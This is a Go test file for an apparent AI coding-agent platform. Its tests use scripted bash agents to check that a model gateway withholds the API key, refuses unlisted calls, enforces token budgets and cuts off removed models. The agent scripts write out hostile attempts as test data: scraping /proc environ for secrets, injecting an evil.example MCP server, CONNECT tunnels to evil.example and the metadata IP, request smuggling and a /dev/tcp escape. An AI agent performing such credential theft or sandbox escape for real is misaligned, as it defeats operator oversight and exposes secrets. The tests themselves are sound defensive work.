package main

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/coderflow/coderflow/internal/audit"
	"github.com/coderflow/coderflow/internal/forge"
	"github.com/coderflow/coderflow/internal/forge/emulator"
	"github.com/coderflow/coderflow/internal/gateway/modeltest"
	"github.com/coderflow/coderflow/internal/store"
	"github.com/coderflow/coderflow/internal/task"
)

// These tests have an agent of shell text talk to the gateway by hand: it asks
// what a real one never would. The real agents' tests are in agents_test.go.

// speaking gives shell text a way to ask the gateway: post PATH BODY [HEADERS],
// and speak, which sends its input as it is. Both listen for so many seconds at most as
// $within says.
const speaking = `
speak() { exec 3<>/dev/tcp/127.0.0.1/8787; cat >&3; timeout "${within:-4}" cat <&3; exec 3>&-; echo; }
post() { printf 'POST %s HTTP/1.1\r\nHost: model\r\nConnection: close\r\nContent-Type: application/json\r\nanthropic-version: 2023-06-01\r\nx-api-key: dummy\r\n%bContent-Length: %d\r\n\r\n%s' "$1" "$3" "${#2}" "$2" | within=${within:-30} speak; }
hello='{"model":"claude-test","max_tokens":100,"messages":[{"role":"user","content":"hello"}]}'
`

// withModel gives the world a scripted model, and the environment the right to use it.
func withModel(t *testing.T, model *modeltest.Server, budget string) worldOption {
	t.Helper()
	key := filepath.Join(shortDir(t), "key")
	if err := os.WriteFile(key, []byte(modeltest.Key+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return func(_ *emulator.Options, s *settings) {
		s.Extra = fmt.Sprintf("reconcile: {interval: 30s}\nmodels:\n  test:\n    protocol: anthropic\n    url: %s\n    keyFile: %s\n    prices: {claude-test: {input: 3, output: 15}}\n", model.URL(), key)
		s.Spec = "model:\n  provider: test\n  names: [claude-test]\n" + budget
	}
}

func startModel(t *testing.T, script modeltest.Script) *modeltest.Server {
	t.Helper()
	model, err := modeltest.New(script)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(model.Close)
	return model
}

func bashAgent(script string) worldOption {
	quoted := strings.ReplaceAll(speaking+script, "'", `'\''`)
	return withAgent("exec bash -c '" + quoted + "'")
}

func TestThreat22TheModelsKeyIsNowhereInTheContainer(t *testing.T) {
	t.Parallel()
	model := startModel(t, modeltest.Script{})
	w := newWorld(t, withModel(t, model, ""), bashAgent(`
		post /v1/messages "$hello"
		post /v1/messages "$hello" 'authorization: Bearer stolen\r\nx-goog-api-key: other\r\n'
		env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'
		grep -ra . /coderflow /run/coderflow /home /etc/coderflow 2>/dev/null | grep -av '^/coderflow/guest'
		ls -la /run/coderflow /coderflow
		echo changed >> README.md
	`))
	issue := w.run(maria)
	found := w.taskOf(issue.Number, task.Proposed)
	said := w.output("task/" + string(found.ID))
	if strings.Count(said, "HTTP/1.1 200 OK") != 2 {
		t.Errorf("the model was not reached:\n%s", said)
	}
	for _, secret := range []string{
		modeltest.Key, base64.StdEncoding.EncodeToString([]byte(modeltest.Key))[:20], hex.EncodeToString([]byte(modeltest.Key)),
	} {
		if strings.Contains(said, secret) || strings.Contains(w.everythingAtTheForge(issue.Topic(), forge.PullTopic(found.PullRequest)), secret) {
			t.Errorf("the key, as %q, was seen", secret)
		}
	}
	for _, r := range model.Requests() {
		if got := r.Header.Values("X-Api-Key"); !slices.Equal(got, []string{modeltest.Key}) || r.Header.Get("Authorization") != "" || r.Header.Get("X-Goog-Api-Key") != "" {
			t.Errorf("the model was sent x-api-key %q, authorization %q", got, r.Header.Get("Authorization"))
		}
	}
	usage, err := w.db().ModelUsage(t.Context(), found.ID)
	if err != nil || usage.Requests != 2 || usage.InputTokens == 0 || usage.OutputTokens == 0 || usage.Cost == 0 {
		t.Errorf("usage: %+v, %v", usage, err)
	}
	pr, err := w.pullRequest(t.Context(), found.PullRequest)
	if err != nil || !strings.Contains(pr.Body, "2 model requests to `claude-test`") {
		t.Errorf("the pull request does not say what was used: %v\n%s", err, pr.Body)
	}
	w.auditTells(found.ID, "container.started")
	if figures := w.metrics(); !strings.Contains(figures, `coderflow_model_requests_total{environment="staging",outcome="answered",provider="test"} 2`) {
		t.Errorf("the metrics do not count the requests:\n%s", figures)
	}
	if transcript, err := w.db().ReadLog(t.Context(), "model/"+string(found.ID), 0, 1<<20); err != nil || !strings.Contains(string(transcript), "hello") || strings.Contains(string(transcript), modeltest.Key) {
		t.Errorf("transcript: %v\n%s", err, transcript)
	}
}

// everythingAtTheForge is all that people can read about a task there.
func (w *world) everythingAtTheForge(topics ...forge.Topic) string {
	w.t.Helper()
	var all strings.Builder
	for _, topic := range topics {
		comments, err := w.comments(w.t.Context(), topic)
		if err != nil {
			w.t.Fatal(err)
		}
		for _, c := range comments {
			all.WriteString(c.Body)
		}
		if !topic.PullRequest {
			continue
		}
		pr, err := w.pullRequest(w.t.Context(), topic.Number)
		if err != nil {
			w.t.Fatal(err)
		}
		all.WriteString(pr.Title + pr.Body)
	}
	return all.String()
}

// auditTells wants at least one entry of the action.
func (w *world) auditTells(id task.ID, action audit.Action) {
	w.t.Helper()
	entries, err := w.db().AuditEntries(w.t.Context(), store.AuditFilter{Task: string(id), Limit: 1000})
	if err != nil {
		w.t.Fatal(err)
	}
	if !slices.ContainsFunc(entries, func(e audit.Entry) bool { return e.Action == action }) {
		w.t.Errorf("no audit entry %s", action)
	}
}

func (w *world) metrics() string {
	w.t.Helper()
	response, err := http.Get("http://" + w.address + "/metrics")
	if err != nil {
		w.t.Fatal(err)
	}
	defer response.Body.Close()
	text, err := io.ReadAll(response.Body)
	if err != nil {
		w.t.Fatal(err)
	}
	return string(text)
}

func TestThreat23OnlyListedCallsReachTheModel(t *testing.T) {
	t.Parallel()
	model := startModel(t, modeltest.Script{})
	w := newWorld(t, withModel(t, model, "network: {hosts: [packages.example.com]}"), bashAgent(`
		post /v1/files "$hello"
		post /v1/messages/../files "$hello"
		post /v1/messages "${hello/claude-test/claude-other}"
		post /v1/messages "${hello%\}},\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://evil.example\"}]}"
		post /v1/messages "${hello%\}},\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}]}"
		printf 'GET /v1/messages HTTP/1.1\r\nHost: model\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n' | speak
		printf 'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n' | speak
		printf 'CONNECT 169.254.169.254:443 HTTP/1.1\r\nHost: x\r\n\r\n' | speak
		printf 'POST http://evil.example/v1/messages HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\nContent-Length: 2\r\n\r\n{}' | speak
		printf 'POST /v1/messages HTTP/1.1\r\nHost: m\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\nPOST /v1/files HTTP/1.1\r\n\r\n' | speak
		echo changed >> README.md
	`))
	issue := w.run(maria)
	found := w.taskOf(issue.Number, task.Proposed)
	said := w.output("task/" + string(found.ID))
	if n := strings.Count(said, "HTTP/1.1 403"); n != 8 {
		t.Errorf("%d requests were refused:\n%s", n, said)
	}
	if !strings.Contains(said, "HTTP/1.1 426") {
		t.Errorf("the upgrade was not answered 426:\n%s", said)
	}
	for _, r := range model.Requests() {
		if r.Path != "/v1/messages" || r.Method != http.MethodPost {
			t.Errorf("the model got %s %s", r.Method, r.Path)
		}
		for _, bad := range []string{"web_fetch", "mcp_servers", "claude-other"} {
			if strings.Contains(string(r.Body), bad) {
				t.Errorf("the model got %q in %s", bad, r.Body)
			}
		}
	}
	if len(model.Problems()) > 0 {
		t.Errorf("the model did not understand: %q", model.Problems())
	}
	w.auditTells(found.ID, "gateway.refused")
	pr, err := w.pullRequest(t.Context(), found.PullRequest)
	if err != nil || !strings.Contains(pr.Body, "CONNECT evil.example:443") || !strings.Contains(pr.Body, "What the agent tried and the gateway refused") {
		t.Errorf("the pull request does not tell what was tried: %v\n%s", err, pr.Body)
	}
}

func TestThreat24ASpentBudgetStopsTheTask(t *testing.T) {
	t.Parallel()
	model := startModel(t, modeltest.Script{InputTokens: 400, OutputTokens: 100})
	w := newWorld(t, withModel(t, model, "  budget: {taskTokens: 1200}"), bashAgent(`
		for i in 1 2 3 4 5 6 7 8 9 10; do post /v1/messages "$hello" | tee /tmp/answer; grep -q 'HTTP/1.1 200' /tmp/answer || { echo refused at $i; exit 3; }; done
	`))
	issue := w.run(maria)
	found := w.taskOf(issue.Number, task.Failed)
	if n := len(model.Requests()); n != 3 {
		t.Errorf("the model got %d requests, want 3: 500 tokens each, of 1200", n)
	}
	if said := w.output("task/" + string(found.ID)); !strings.Contains(said, "refused at 4") || strings.Contains(said, "HTTP/1.1 429") {
		t.Errorf("the agent saw:\n%s", said)
	}
	if !strings.Contains(found.Failure, "budget") {
		t.Errorf("the failure does not name the budget: %s", found.Failure)
	}
	w.auditTells(found.ID, "gateway.budget")
	w.waitSaid(issue.Topic(), "budget")
}

// Killing the server while an agent talks to its model: the agent waits for the
// gateway and goes on with the next server.
func TestFault29AnAgentOutlivesItsGateway(t *testing.T) {
	t.Parallel()
	model := startModel(t, modeltest.Script{})
	w := newWorld(t, withModel(t, model, ""), bashAgent(`
		within=300
		post /v1/messages "$hello" | head -1
		until [ -e /run/coderflow/away ]; do sleep .1; done
		post /v1/messages "$hello" | head -1
		exec 3<>/dev/tcp/192.0.2.1/443 && echo there is another way out
		echo changed >> README.md
	`))
	issue := w.run(maria)
	running := w.taskOf(issue.Number, task.Running)
	w.wait("the first answer", func(context.Context) (bool, error) {
		return strings.Contains(w.output("task/"+string(running.ID)), "HTTP/1.1 200 OK"), nil
	})
	w.server.kill()
	dirs, err := filepath.Glob(filepath.Join(w.dir, "data", "gateway", "*"))
	if err != nil || len(dirs) != 1 {
		t.Fatalf("the gateway's directories: %q, %v", dirs, err)
	}
	if err := os.WriteFile(filepath.Join(dirs[0], "away"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	time.Sleep(2 * time.Second) // the second question is asked while nobody is there
	w.start()
	found := w.taskOf(issue.Number, task.Proposed)
	said := w.output("task/" + string(found.ID))
	if found.ID != running.ID || strings.Count(said, "HTTP/1.1 200 OK") != 2 || strings.Contains(said, "another way out") {
		t.Errorf("the agent saw:\n%s", said)
	}
	if _, err := os.Stat(dirs[0]); !os.IsNotExist(err) {
		t.Errorf("the gateway's directory stays after the run: %v", err)
	}
	tasks, err := w.db().Tasks(t.Context(), store.TaskFilter{Limit: 10})
	if err != nil || len(tasks) != 1 {
		t.Errorf("tasks: %d, %v", len(tasks), err)
	}
}

// An administrator who takes the model away from an environment means the agent
// that runs in it too; and the way out of a task that has ended is gone.
func TestThreat23AModelThatIsTakenAwayIsGoneAtOnce(t *testing.T) {
	t.Parallel()
	model := startModel(t, modeltest.Script{})
	w := newWorld(t, withModel(t, model, ""), bashAgent(`
		within=4
		for i in $(seq 300); do post /v1/messages "$hello" > /tmp/answer; grep -q 'HTTP/1.1 200' /tmp/answer || break; sleep .2; done
		echo "no answer after $i"
		echo changed >> README.md
	`), func(_ *emulator.Options, s *settings) {
		s.Extra = strings.Replace(s.Extra, "interval: 30s", "interval: 1s", 1)
	})
	issue := w.run(maria)
	running := w.taskOf(issue.Number, task.Running)
	if err := until(t.Context(), longEnough, "the first answer", func(context.Context) (bool, error) { return len(model.Requests()) > 0, nil }); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(w.dir, "manifests", "demo.yaml")
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	without := strings.Replace(string(text), "  model:\n    provider: test\n    names: [claude-test]\n", "", 1)
	if without == string(text) {
		t.Fatalf("the manifests do not say the model as this test expects:\n%s", text)
	}
	if err := os.WriteFile(file, []byte(without), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, said, code := w.command("", "apply", "-f", file); code != 0 {
		t.Fatalf("apply: %s%s", out, said)
	}
	found := w.taskOf(issue.Number, task.Proposed)
	if said := w.output("task/" + string(running.ID)); !strings.Contains(said, "no answer after") || strings.Contains(said, "no answer after 300") {
		t.Errorf("the agent saw:\n%s", said)
	}
	if dirs, err := filepath.Glob(filepath.Join(w.dir, "data", "gateway", "*")); err != nil || len(dirs) != 0 || found.ID != running.ID {
		t.Errorf("the gateway of a task without a model: %q, %v", dirs, err)
	}
}
